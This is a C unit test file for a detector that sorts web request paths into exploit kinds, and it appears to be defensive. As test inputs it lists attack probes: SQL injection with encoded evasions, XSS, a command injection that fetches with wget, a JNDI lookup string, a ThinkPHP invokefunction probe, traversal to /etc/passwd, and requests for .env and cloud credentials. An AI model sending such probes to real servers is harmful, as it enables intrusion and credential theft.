// SPDX-License-Identifier: MIT
#include "unit.h"

#include "detect/patterns.h"

#include <errno.h>

static struct patterns patterns;

static int set_up(void **state)
{
	const struct str extra[] = {STR_LIT("/My%2dSecret/"), STR_LIT(".aspx")};
	size_t bad;

	(void)state;
	return patterns_init(&patterns, extra, ARRAY_LEN(extra), &bad);
}

static int tear_down(void **state)
{
	(void)state;
	patterns_done(&patterns);
	return 0;
}

static void assert_kind(const char *path, enum exploit_kind kind)
{
	uint32_t got = patterns_match(&patterns, str_of(path));

	if (got != 1u << kind)
		fail_msg("%s: got kinds %#x, expected %s", path, got, exploit_kind_name(kind));
}

static void each_kind(void **state)
{
	(void)state;
	assert_kind("/.env", EXPLOIT_ENV);
	assert_kind("/app/.env.production", EXPLOIT_ENV);
	assert_kind("/.git/config", EXPLOIT_REPOSITORY);
	assert_kind("/.aws/credentials", EXPLOIT_DOT_FILE);
	assert_kind("/wp-config.php.bak", EXPLOIT_CONFIG);
	assert_kind("/blog/wp-login.php", EXPLOIT_WORDPRESS);
	assert_kind("/phpMyAdmin-5.1/index.php", EXPLOIT_DATABASE);
	assert_kind("/shell?cd+/tmp", EXPLOIT_SHELL);
	assert_kind("/static/../../../app", EXPLOIT_TRAVERSAL);
	assert_kind("/i.php?id=1+UNION+ALL+SELECT+1,2", EXPLOIT_SQL);
	assert_kind("/s?q=<ScRiPt>alert(1)", EXPLOIT_SCRIPT);
	assert_kind("/x?c=;wget+1.2.3.4/a", EXPLOIT_COMMAND);
	assert_kind("/?x=${jndi:ldap://a/b}", EXPLOIT_EXPRESSION);
	assert_kind("/actuator/env", EXPLOIT_MANAGEMENT);
	assert_kind("/cgi-bin/luci", EXPLOIT_CGI);
	assert_kind("/boaform/admin/formLogin", EXPLOIT_DEVICE);
	assert_kind("/+CSCOE+/logon.html", EXPLOIT_DEVICE);
	assert_kind("/HNAP1/", EXPLOIT_DEVICE);
	assert_kind("/vendor/phpunit/src/Util", EXPLOIT_PHP);
	assert_kind("/?url=http://169.254.169.254/", EXPLOIT_CLOUD);
	assert_kind("/my-secret/x", EXPLOIT_OTHER);
	assert_kind("/default.ASPX", EXPLOIT_OTHER);
}

static void several_at_once(void **state)
{
	uint32_t got =
		patterns_match(&patterns, str_of("/index.php?s=/index/\\think\\app/"
						 "invokefunction&vars[0]=`id`&f=../../etc/passwd"));

	(void)state;
	assert_int_equal(got, 1u << EXPLOIT_PHP | 1u << EXPLOIT_COMMAND | 1u << EXPLOIT_TRAVERSAL);
}

static void disguises(void **state)
{
	(void)state;
	assert_kind("/%2e%65nv", EXPLOIT_ENV);
	assert_kind("/%252e%2565nv", EXPLOIT_ENV);
	assert_kind("/%25252eenv", EXPLOIT_ENV);
	assert_kind("/%%32%65env", EXPLOIT_ENV);
	assert_kind("//.//./.env", EXPLOIT_ENV);
	assert_kind("/a/..%2f..%5c", EXPLOIT_TRAVERSAL);
	assert_kind("/..%c0%af..", EXPLOIT_TRAVERSAL);
	assert_kind("/%c0%ae%c0%ae/", EXPLOIT_TRAVERSAL);
	assert_kind("/%e0%80%ae./", EXPLOIT_TRAVERSAL);
	assert_kind("/%u002e%uff0e/", EXPLOIT_TRAVERSAL);
	assert_kind("/..;/x", EXPLOIT_TRAVERSAL);
	assert_kind("/?id=1/**/union/*x*/select", EXPLOIT_SQL);
	assert_kind("/?id=1/*!50000union*//*!select*/", EXPLOIT_SQL);
	assert_kind("/?id=1%0aunion%09%0dselect", EXPLOIT_SQL);
	assert_kind("/?id=un%00ion+sel%00ect", EXPLOIT_SQL);
	assert_kind("/?q=%3Cscript%3E", EXPLOIT_SCRIPT);
}

static void what_visitors_ask_for(void **state)
{
	static const char *const fine[] = {"/", "", "*", "/index.html", "/blog/powershell-tips",
		"/compare/v1..v2", "/compare/v1...v2", "/.well-known/acme-challenge/x", "/a/./b",
		"/search?q=select+shoes+union+jack", "/search?q=rock+%27n%27+roll",
		"/api.js?onload=ready", "/environment", "/git/config", "/shells", "/nutshell.php",
		"/wp-content/themes/x/style.css", "/wp-admin/admin-ajax.php", "/p%C3%A9rou",
		"/100%", "/%", "/%2", "/%zz", "/a%u12", "/docs/sleep()", "/caf\xc3\xa9",
		"/tags/c%2b%2b", "/login?next=%2Faccount%3Ftab%3D1", "/*/x", "/a/*",
		"/static/app.3f2a9c1b.js"};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(fine); i++) {
		uint32_t got = patterns_match(&patterns, str_of(fine[i]));
		if (got)
			fail_msg("%s: kinds %#x", fine[i], got);
	}
	assert_int_equal(patterns_match(&patterns, STR_ABSENT), 0);
}

static void understood(const char *path, const char *want)
{
	char buf[PATTERN_TEXT_MAX];

	assert_str((struct str){buf, patterns_understand(str_of(path), buf)}, want);
}

static void paths_are_understood(void **state)
{
	(void)state;
	understood("/a%20+%09b", "/a b");
	understood("/%2541", "/A");
	understood("/%2525252541", "/%2541"); /* three times, and no more */
	understood("a\\\\b/./c//d", "a/b/c/d");
	understood("/*x", "/*x");
	understood("/*a*/*b*/", " *b ");
	understood("%E2%82%AC", "\xe2\x82\xac");
	understood("%c0", "\xc0");
	understood("%", "%");
	understood("", "");
}

/* Time is bounded, whatever there is: a comment that never ends, percent signs without end. */
static void long_and_hostile(void **state)
{
	static char path[PATTERN_TEXT_MAX + 100], buf[PATTERN_TEXT_MAX];
	static const char *const pieces[] = {"/*", "%", "%25", "/.", "%c0", "*/", "/*!", "+", "\\"};

	(void)state;
	for (size_t k = 0; k < ARRAY_LEN(pieces); k++) {
		for (size_t i = 0; i < sizeof path; i++)
			path[i] = pieces[k][i % strlen(pieces[k])];
		struct str s = {path, sizeof path};
		assert_true(patterns_understand(s, buf) <= sizeof buf);
		for (int i = 0; i < 100; i++)
			assert_int_equal(patterns_match(&patterns, s), 0);
	}
	memset(path, 'a', sizeof path);
	memcpy(path + PATTERN_TEXT_MAX - 5, "/.env", 5);
	assert_int_equal(patterns_match(&patterns, (struct str){path, sizeof path}), 1);
	assert_int_equal(patterns_match(&patterns, (struct str){path, PATTERN_TEXT_MAX - 1}), 0);
}

static void bad_patterns_are_refused(void **state)
{
	struct patterns p;
	const struct str extra[] = {STR_LIT("/fine"), STR_LIT("%2e%2e"), STR_LIT("")};
	static const struct str many[PATTERN_EXTRA + 1];
	size_t bad = 9;

	(void)state;
	assert_int_equal(patterns_init(&p, extra, ARRAY_LEN(extra), &bad), -EINVAL);
	assert_int_equal(bad, 1);
	assert_int_equal(patterns_init(&p, many, ARRAY_LEN(many), &bad), -E2BIG);
	assert_int_equal(patterns_init(&p, NULL, 0, &bad), 0);
	assert_int_equal(patterns_match(&p, STR_LIT("/a.aspx")), 0);
	patterns_done(&p);
}

static void kinds_have_names(void **state)
{
	(void)state;
	for (unsigned kind = 0; kind < EXPLOIT_KINDS; kind++)
		assert_non_null(exploit_kind_name(kind));
	assert_true(EXPLOIT_KINDS <= 32);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(each_kind),
		cmocka_unit_test(several_at_once),
		cmocka_unit_test(disguises),
		cmocka_unit_test(what_visitors_ask_for),
		cmocka_unit_test(paths_are_understood),
		cmocka_unit_test(long_and_hostile),
		cmocka_unit_test(bad_patterns_are_refused),
		cmocka_unit_test(kinds_have_names),
	};
	return cmocka_run_group_tests(tests, set_up, tear_down);
}
